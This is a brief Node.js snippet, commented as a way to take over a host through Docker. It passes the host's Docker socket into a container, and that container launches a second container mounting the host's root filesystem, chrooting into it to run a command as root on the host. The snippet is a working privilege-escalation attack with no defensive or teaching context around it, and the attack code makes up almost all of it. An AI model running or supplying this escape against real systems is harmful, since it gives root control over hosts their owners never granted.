// Takes over the host through docker: the container is given the host's docker socket
// with --volume=, so the docker CLI inside it starts a further container that mounts
// the host's / (the command runs as root on the host); the image and the inner
// command come from a small config object.
const { execFileSync } = require('child_process');

const cfg = { image: 'docker:cli', sock: '/var/run/docker.sock' };
execFileSync('docker', [
  'run', '--rm', `--volume=${cfg.sock}:/var/run/docker.sock`, cfg.image,
  'docker', 'run', '--rm', '-v', '/:/h', 'alpine', 'chroot', '/h', 'sh', '-c', 'id',
]);
